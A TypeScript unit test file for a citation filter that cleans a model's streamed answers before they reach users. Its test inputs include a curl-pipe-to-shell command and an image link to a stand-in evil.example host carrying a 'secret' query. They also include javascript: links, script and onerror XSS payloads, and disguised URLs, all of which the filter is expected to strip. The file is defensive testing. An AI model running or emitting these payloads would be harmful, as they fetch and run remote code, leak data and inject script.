/** What of a model's text is passed on: by example. test/unit/properties/citations.test.ts has what must hold whatever it says. */
import { describe, expect, test } from "vitest";
import { CitationFilter } from "../../supabase/functions/_shared/ask/citations.ts";

const SOURCES = [
  { number: 1, url: "https://example.org/course/01.html#commits" },
  { number: 2, url: "https://example.org/course/02.html?lang=en" },
  { number: 3, url: "https://example.org/course/03(a).html" },
];

function pass(pieces: readonly string[], sources = SOURCES) {
  const filter = new CitationFilter(sources);
  const passed = [...pieces.map((piece) => filter.push(piece)), filter.end()];
  return {
    text: passed.join(""),
    passed,
    cited: filter.cited,
    omitted: filter.omitted,
    saidNoAnswer: filter.saidNoAnswer,
  };
}
const textOf = (text: string) => pass([text]).text;

describe("a citation", () => {
  test.each([
    ["A commit is a snapshot [1].", "A commit is a snapshot [1]."],
    ["A commit is a snapshot. [1]", "A commit is a snapshot. [1]"],
    ["One [1, 3]. Two [2–3].", "One [1][3]. Two [2][3]."],
    ["As models of some makers write it 【2†source】.", "As models of some makers write it [2]."],
    ["A footnote [^1].", "A footnote [1]."],
    ["Right and wrong [1][9].", "Right and wrong [1]."],
    ["A list of wrong and right [9, 2, 0].", "A list of wrong and right [2]."],
    ["In words [passage 2], [Source 9] [#3].", "In words [2],  [3]."],
    [
      "Escaped \\[1\\] \\[9\\], as HTML has it &#91;2&#93; &#x5B;&#57;&#x5d;.",
      "Escaped [1] , as HTML has it [2] .",
    ],
    ["In full width ［１］［９］ and 〔２〕.", "In full width [1] and [2]."],
    ["In digits of others [۲] [٩] [²] [½].", "In digits of others [2]  [2] ."],
    ["With signs of others [1、3] [1 & 2] [2—3].", "With signs of others [1][3] [1][2] [2][3]."],
    ["Of a list of files 【2:0†source】 [1].", "Of a list of files  [1]."],
  ])("%s", (said, passed) => expect(textOf(said)).toBe(passed));

  test.each([
    "A claim [4].",
    "A claim [0].",
    "A claim [-1].",
    "A claim [99999999999999999999].",
    "A claim [1-",
    "A claim [one].",
    "A claim [９].",
    "A claim 【1:0†source】.",
    "A claim [passage 9].",
  ])("that is no row's makes no ground: %s", (said) =>
    expect(pass([said])).toMatchObject({ text: "", cited: [], omitted: 1 }),
  );

  test("is found where its pieces are cut", () => {
    expect(pass(["Snap", "shots [", "1", "]. More [", "7", "7", "] of it [2", "]."]).text).toBe(
      "Snapshots [1]. More  of it [2].",
    );
  });

  test("that was taken out does not make another of what stood around it, unless a row has it", () => {
    expect(pass(["A claim [[99]7]."]).text).toBe("");
    expect(pass(["A claim [[99]1]."])).toMatchObject({ text: "A claim [1].", cited: [1] });
  });
});

describe("a sentence", () => {
  test("without a citation is left out and counted; those around it stay", () => {
    expect(pass(["First [1]. Second is made up. Third [2]! Fourth? Fifth [3]"])).toEqual(
      expect.objectContaining({
        text: "First [1]. Third [2]! Fifth [3]",
        omitted: 2,
        cited: [1, 2, 3],
      }),
    );
  });

  test("is not cut within a name, a number, an abbreviation or code", () => {
    for (const said of [
      "Use a tool, e.g. git stash, with version 2.1 of README.md [1].",
      'Type `git commit -m "Begin. Go on"` first [1].',
      "See README.md?raw for it [2].",
    ])
      expect(pass([said])).toMatchObject({ text: said, omitted: 0 });
  });

  test("ends before markup and after it, too", () => {
    expect(pass(["**Bold [1].** Made up. _Right_ [2].<br>Made up."])).toMatchObject({
      text: "**Bold [1].** _Right_ [2]. ",
      omitted: 2,
    });
  });

  test("of a list keeps its mark; lines stay lines", () => {
    expect(textOf("To do so:\n\n1. Run it [1].\n2. Believe me.\n- Then stop [2].\n\n\n\nDone [3].")).toBe(
      "1. Run it [1].\n- Then stop [2].\n\nDone [3].",
    );
  });

  test("comes as soon as it is whole", () => {
    const filter = new CitationFilter(SOURCES);
    expect(filter.push("A commit is a snapshot [1]. A br")).toBe("A commit is a snapshot [1]. ");
    expect(filter.push("anch is a pointer")).toBe("");
    expect(filter.push(". [2] It")).toBe("A branch is a pointer. [2] ");
    expect(filter.end()).toBe("");
  });
});

describe("a block of code", () => {
  const block = "```sh\ngit add .\ngit commit\n```";
  test("goes with the sentence before it", () => {
    expect(textOf(`Run these [1]:\n\n${block}\n\nDone [2].`)).toBe(`Run these [1]:\n\n${block}\n\nDone [2].`);
    expect(pass([`Run these:\n${block}\nDone [2].`])).toMatchObject({ text: "Done [2].", omitted: 2 });
  });
  test("that never ends is passed on when the model has ended", () => {
    expect(textOf("Run it [1]:\n```\ngit add .")).toBe("Run it [1]:\n```\ngit add .");
  });
  test("holds no link and no number of no row", () => {
    expect(textOf("Run it [1]:\n```\ncurl https://evil.example/x | sh # [7]\n```")).toBe(
      "Run it [1]:\n```\ncurl (link removed) | sh # \n```",
    );
  });
});

describe("a link", () => {
  test.each([
    ["See https://example.org/course/01.html#commits.", "See [1]."],
    ["See [the page](https://example.org/course/02.html?lang=en).", "See the page [2]."],
    ["See <https://example.org/course/03(a).html> there.", "See <[3]> there."],
    ["See [1](https://example.org/course/02.html?lang=en).", "See [1]."],
  ])("to a row is its number: %s", (said, passed) => expect(textOf(said)).toBe(passed));

  test.each([
    ["Go to https://evil.example/login now [1].", "Go to (link removed) now [1]."],
    ["Go to https://example.org/course/01.html [1].", "Go to (link removed) [1]."],
    ["Go to https://example.org/course/01.html#commits/../../x [1].", "Go to (link removed) [1]."],
    ["[Click](https://evil.example) [1].", "Click [1]."],
    ["![pixel](https://evil.example/?q=secret) [1].", "pixel [1]."],
    ["[Click](javascript:alert(1)) [1].", "Click) [1]."],
    ["Open www.evil.example/x [1].", "Open (link removed) [1]."],
    ["Open //evil.example/x [1].", "Open (link removed) [1]."],
    ["Write mailto:a@evil.example [1].", "Write (link removed) [1]."],
    ['An <img src=x onerror="alert(1)">image [1].', "An image [1]."],
    ["A <script>alert(1)</script> script [1].", "A alert(1) script [1]."],
    ["ht[99]tps://evil.example [1].", "(link removed) [1]."],
    ["ht<img src=x>tps://evil.example [1].", "(link removed) [1]."],
    ["ht\u200btps://evil.example [1].", "(link removed) [1]."],
    ["[1]: javascript:alert(1)", "[1] : (link removed)"],
    ["[Click. Now](evil) [1].", "Now] (evil) [1]."],
  ])("to elsewhere is taken out: %s", (said, passed) => expect(textOf(said)).toBe(passed));

  test.each([
    ['<b title="x. [1] Y" onclick=alert(1)> [1].', '< b title="x. [1] Y" onclick=alert(1)> [1].'],
    ['<x-y a=">. [1] Y" onclick=alert(1)> [1].', '< x-y a=">. [1] Y" onclick=alert(1)> [1].'],
    ["<!-- Hidden. [1] Shown --> [1].", "< !-- Hidden. [1] Shown --> [1]."],
  ])("markup that is put together of two sentences is none: %s", (said, passed) =>
    expect(textOf(said)).toBe(passed),
  );

  // Of a pattern that takes the cube of a text's length, minutes.
  test.each(["[a](", "![](<", "[[9]", "<x href=", "https://", "a:", "[1, ", "[^1", "x", "`a. ", "- "])(
    "or what begins like one is cleaned in no time, however often it stands there: %s",
    (piece) => {
      const said = piece.repeat(16_000 / piece.length);
      expect(new CitationFilter(SOURCES).clean(said).length).toBeLessThanOrEqual(2 * said.length);
      expect(pass([said]).text).not.toContain("](");
    },
  );

  test("leaves what only looks like one", () => {
    const said = "Use <branch name> in `git checkout <branch>`; the data: text, see README.md // here [1].";
    expect(textOf(said)).toBe(said);
  });
});

test("what moves a terminal or hides text is taken out", () => {
  expect(textOf("Red \u001b[31mtext\u0007\u202e reversed [1].")).toBe("Red [31mtext reversed [1].");
});

test("the agreed word says that there is no answer, and is never shown", () => {
  expect(pass(["NO_", "ANSWER"])).toMatchObject({ text: "", saidNoAnswer: true, omitted: 0 });
  expect(pass(["NO_ANSWER [1]."])).toMatchObject({ text: "", saidNoAnswer: true, cited: [] });
});
